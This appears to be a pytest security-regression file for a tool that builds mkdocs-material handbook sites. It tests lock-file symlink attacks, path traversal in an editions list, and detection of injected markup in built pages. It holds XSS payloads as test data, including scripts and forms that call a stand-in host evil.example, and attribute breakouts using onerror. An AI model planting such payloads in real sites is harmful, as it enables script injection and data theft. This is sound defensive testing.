"""Issue 12, fifth attack round (r12 attacker review 3): a build lock that stalled unrelated builds, an editions
list that reached outside its folder, the last scan of built pages letting chrome-like markup through, and two
standard mkdocs-material settings an honest maintainer could not use. Every hostile input is made at run time on a
copy of the shipped content; helpers come from the fourth round's tests.
"""
from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import copy_project, run_wugu
from test_harden_attack4 import _config, _mobile, _problems

#: Holds an exclusive lock on each path it is given until its standard input closes (as another build, or any
#: local user running ``flock``, would).
_HOLD = ("import fcntl, os, sys\n"
         "fds = [os.open(p, os.O_RDONLY | (0 if os.path.isdir(p) else os.O_CREAT)) for p in sys.argv[1:]]\n"
         "[fcntl.flock(fd, fcntl.LOCK_EX) for fd in fds]\n"
         "print('held', flush=True)\n"
         "sys.stdin.read()\n")


def _hold(*paths: Path) -> subprocess.Popen[str]:
    holder = subprocess.Popen([sys.executable, "-c", _HOLD, *map(str, paths)], stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, text=True)
    assert holder.stdout is not None and holder.stdout.readline().strip() == "held"
    return holder


def _wait_for(path: Path, needle: str, proc: subprocess.Popen[str], seconds: float = 300) -> str:
    """What ``proc`` wrote to ``path`` once it holds ``needle`` (or once ``proc`` ended; a bounded wait)."""
    import time

    deadline = time.monotonic() + seconds
    text = ""
    while time.monotonic() < deadline:
        text = path.read_text(encoding="utf-8")
        if needle in text or proc.poll() is not None:
            return text
        time.sleep(0.1)
    return text


# ---- NEW-4: one lock per output folder, and a word when waiting ------------------------------------------------

def test_builds_into_sibling_folders_never_wait_and_a_held_one_says_it_waits(tmp_path):
    from wugu.output import lock_path

    project = copy_project(tmp_path / "p")
    outs = tmp_path / "outs"
    outs.mkdir()
    # someone holds the shared parent folder (as `flock /tmp` would) and the lock of outs/a (another build of it)
    holder = _hold(outs, lock_path(outs / "a"))
    waiting = None
    try:
        other = run_wugu("build", str(project), "--no-pdf", "--out", str(outs / "b"))
        assert other.returncode == 0, other.stdout + other.stderr
        assert (outs / "b" / "index.html").is_file() and "等待" not in other.stderr
        log = tmp_path / "a.err"
        with log.open("w", encoding="utf-8") as err:
            waiting = subprocess.Popen([sys.executable, "-m", "wugu", "build", str(project), "--no-pdf", "--out",
                                        str(outs / "a")], stdout=subprocess.DEVNULL, stderr=err, text=True)
        said = _wait_for(log, "等待它结束", waiting)
        assert waiting.poll() is None, said  # it waits while the lock is held …
        assert "另一个 wugu 正在生成" in said and "outs/a" in said and "Traceback" not in said
    finally:
        holder.communicate("")
        if waiting is not None:
            waiting.wait(timeout=300)
    assert waiting.returncode == 0, log.read_text(encoding="utf-8")  # … and builds once it is free
    assert (outs / "a" / "index.html").is_file()
    assert sorted(os.listdir(outs)) == ["a", "b"]  # no lock file or temporary folder left beside them


def test_a_link_planted_where_the_lock_goes_is_not_followed(tmp_path):
    from wugu.output import lock_path

    project = copy_project(tmp_path / "p")
    victim = tmp_path / "victim.txt"
    victim.write_text("keep", encoding="utf-8")
    out = tmp_path / "outs" / "site"
    out.parent.mkdir()
    lock_path(out).symlink_to(victim)
    result = run_wugu("build", str(project), "--no-pdf", "--out", str(out))
    assert result.returncode == 2 and " error E505: " in result.stderr and "符号链接" in result.stderr, result.stderr
    assert victim.read_text(encoding="utf-8") == "keep" and not out.exists()


# ---- NEW-7: an editions list names only folders inside its own folder ------------------------------------------

def test_an_editions_list_cannot_name_a_folder_outside_its_own(tmp_path):
    other = tmp_path / "elsewhere" / "proj"  # another group's project on the same machine
    made = run_wugu("init", str(other), "--name", "清河县手牵手服务团", "--level", "县")
    assert made.returncode == 0, made.stdout + made.stderr
    eds = tmp_path / "eds"
    eds.mkdir()
    (eds / "link").symlink_to(other)  # a link committed beside the list
    lines = [str(other), "../elsewhere/proj", "link  # 链接", "sub/../../elsewhere/proj", "."]
    listing = eds / "list.txt"
    listing.write_text("# 本市各地方版\n" + "\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    result = run_wugu("build", "--editions", str(listing), "--out", str(out))
    assert result.returncode == 1, result.stdout + result.stderr
    problems = [line for line in result.stderr.splitlines() if " error E411: " in line]
    assert [line.split(": error")[0].rsplit(":", 2)[1] for line in problems] == ["2", "3", "4", "5", "6"], problems
    assert all(line.split(":", 1)[0].endswith("list.txt") for line in problems)
    assert "绝对路径" in problems[0] and all("清单文件所在的目录" in line for line in problems[1:])
    assert "Traceback" not in result.stderr
    assert not any(p.suffix == ".pdf" for p in out.rglob("*")) and not (out / "proj").exists()


# ---- NEW-6: mkdocs-material's own code-block setup and copyright example; NEW-5: what the theme really writes --

#: mkdocs-material's "Code blocks" setup page, as a maintainer would paste it.
_MATERIAL_CODE = [{"pymdownx.highlight": {"anchor_linenums": True, "line_spans": "__span", "pygments_lang_class": True,
                                          "linenums": True, "auto_title": True, "linenums_style": "pymdownx-inline"}},
                  "pymdownx.inlinehilite", "pymdownx.superfences"]
_COPYRIGHT = "Copyright &copy; 2026 清河县 <script>alert(1)</script> &lt;script&gt;alert(2)&lt;/script&gt;"


@pytest.fixture(scope="module")
def material_site(tmp_path_factory) -> tuple[Path, Path]:
    """A copy of the shipped project set up as mkdocs-material's pages show (code blocks, copyright with
    ``&copy;``, a light/dark toggle, a site address — canonical links), with a page of code; built once:
    (project, site)."""
    base = tmp_path_factory.mktemp("material")
    project = copy_project(base / "p")

    def change(data: dict) -> None:
        data["markdown_extensions"] += _MATERIAL_CODE
        data["copyright"] = _COPYRIGHT
        data["site_url"] = "https://qinghe.example.org/handbook/"
        data["theme"]["palette"] = [{"scheme": "default", "toggle": {"icon": "material/brightness-7", "name": "深色"}},
                                    {"scheme": "slate", "toggle": {"icon": "material/brightness-4", "name": "浅色"}}]
    _config(project, change)
    (project / "site" / "code.md").write_text("# 代码\n\n``` python\nprint('你好')\nx = 1\n```\n\n"
                                              "行内 `#!python x = 1`。\n", encoding="utf-8")
    assert _problems(project) == []
    out = base / "site"
    result = run_wugu("build", str(project), "--no-pdf", "--out", str(out))
    assert result.returncode == 0, result.stdout + result.stderr
    return project, out


def test_material_code_block_options_pass_and_work(material_site):
    _project, out = material_site
    page = (out / "code.html").read_text(encoding="utf-8")
    assert '<span id="__span-0-1">' in page and 'href="#__codelineno-0-1"' in page  # line_spans, anchor_linenums
    assert 'class="language-python highlight"' in page or "language-python" in page  # pygments_lang_class


@pytest.mark.parametrize("options", [{"line_spans": 'x"><img src=x onerror=alert(1)>'}, {"line_anchors": "a b"},
                                     {"default_lang": "<b>"}, {"linenums_special": "3"}, {"pygments_style": "x"}])
def test_highlight_options_that_could_break_out_of_an_attribute_are_still_e520(tmp_path, options):
    project = copy_project(tmp_path / "p")
    _config(project, lambda data: data["markdown_extensions"].append({"pymdownx.highlight": options}))
    assert [p["code"] for p in _problems(project)] == ["E520"]


def test_copyright_character_references_are_read_and_markup_stays_text(material_site):
    _project, out = material_site
    for name in ("index.html", "code.html", "regulations/R01.html"):
        page = (out / name).read_text(encoding="utf-8")
        footer = page[page.index('class="md-copyright__highlight"'):]
        footer = footer[:footer.index("</div>")]
        assert "Copyright © 2026 清河县" in footer, footer
        assert "&amp;copy;" not in footer and "<script" not in footer
        assert footer.count("&lt;script&gt;alert(") == 2, footer  # both the tag and the escaped tag show as text


def test_a_number_hidden_in_copyright_character_references_is_found(tmp_path):
    project = copy_project(tmp_path / "p")
    hidden = "".join(f"&#{ord(c)};" for c in _mobile())
    _config(project, lambda data: data.update(copyright=f"联系 {hidden}"))
    found = [p for p in _problems(project) if p["code"] == "E402"]
    assert [(p["path"].endswith("mkdocs.yml"), p["line"] > 0) for p in found] == [(True, True)], found
    line = (project / "mkdocs.yml").read_text(encoding="utf-8").splitlines()[found[0]["line"] - 1]
    assert line.startswith("copyright:") and _mobile() not in found[0]["message"]


def test_every_page_of_the_material_setup_passes_the_last_scan(material_site):
    """Shipped site, fill pages, self-test, highlight markup, canonical links, the palette toggle's script: all
    written by the theme or wugu, nothing reported (the build above ran the same scan)."""
    from wugu.validate.pages import unsafe_built

    _project, out = material_site
    pages = sorted(out.rglob("*.html"))
    assert len(pages) > 60 and any("wg-fill__schema" in p.read_text(encoding="utf-8") for p in pages)
    assert 'id="wg-selftest"' in (out / "self-test.html").read_text(encoding="utf-8")
    assert '<link rel="canonical" href="https://qinghe.example.org/' in (out / "index.html").read_text(encoding="utf-8")
    assert {str(p.relative_to(out)): unsafe_built(p.read_text(encoding="utf-8")) for p in pages
            if unsafe_built(p.read_text(encoding="utf-8"))} == {}


#: Chrome-like markup an injection could produce, each in the head or the body of a real built page.
_INJECTED = {
    "inline script": "<script>alert(1)</script>",
    "upper-case inline script": "<SCRIPT>alert(1)</SCRIPT>",
    "module script": '<script type="module">import("https://evil.example/x.js")</script>',
    "javascript type": "<script type=text/javascript>fetch('https://evil.example/')</script>",
    "meta refresh": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "meta referrer": '<meta name="referrer" content="unsafe-url">',
    "outside stylesheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "protocol-relative icon": '<link rel="icon" href="//evil.example/x.ico">',
    "backslash stylesheet": '<link rel="stylesheet" href="/\\evil.example/x.css">',
    "preload": '<link rel="preload" href="assets/x.js" as="script">',
    "style import": "<style>@import url(https://evil.example/x.css);</style>",
    "style escape": "<style>body{background:u\\rl(https://evil.example/x.png)}</style>",
    "style attribute": '<div style="background:url(//evil.example/x.png)">x</div>',
    "form action": '<form action="https://evil.example/collect"><input name=q></form>',
    "svg script": '<svg><script href="https://evil.example/x.js"></script></svg>',
}


@pytest.mark.parametrize("name", sorted(_INJECTED))
def test_chrome_markup_the_theme_does_not_write_is_e530(material_site, tmp_path, name):
    from wugu.errors import WuguError
    from wugu.render.sitebuild import _refuse_active_pages
    from wugu.validate.pages import unsafe_built

    _project, out = material_site
    real = (out / "regulations" / "R01.html").read_text(encoding="utf-8")
    site = tmp_path / "site"
    (site / "regulations").mkdir(parents=True)
    shutil.copy(out / "index.html", site / "index.html")
    at = real.index("</head>") if "<meta" in _INJECTED[name] or "<link" in _INJECTED[name] else real.index("</article>")
    (site / "regulations" / "R01.html").write_text(real[:at] + _INJECTED[name] + real[at:], encoding="utf-8")
    assert unsafe_built(real) == []
    with pytest.raises(WuguError) as caught:
        _refuse_active_pages(site)
    assert [(p.code, p.path) for p in caught.value.problems] == [("E530", "regulations/R01.html")]


def test_a_theme_script_with_something_added_is_not_the_theme_script(material_site):
    from wugu.validate.pages import unsafe_built

    _project, out = material_site
    page = (out / "index.html").read_text(encoding="utf-8")
    scope = re.search(r"<script>(__md_scope=.*?)</script>", page).group(1)
    assert unsafe_built(page) == []
    assert unsafe_built(page.replace(scope, scope + ";alert(1)"))
    assert unsafe_built(page.replace('new URL(".",location)', 'new URL("."+alert(1)+"",location)'))
    data = '<script id="__config" type="application/json">{"a": "</b>"}</script>'
    assert unsafe_built(data) == []  # data, not run
    assert unsafe_built(data.replace("</b>", "</script><script>alert(1)</script>"))  # ends the data
    # in an SVG, style and script content is markup: a tag in it is read (it would break out and run)
    assert unsafe_built("<svg><style><img src=x onerror=alert(1)></style></svg>")
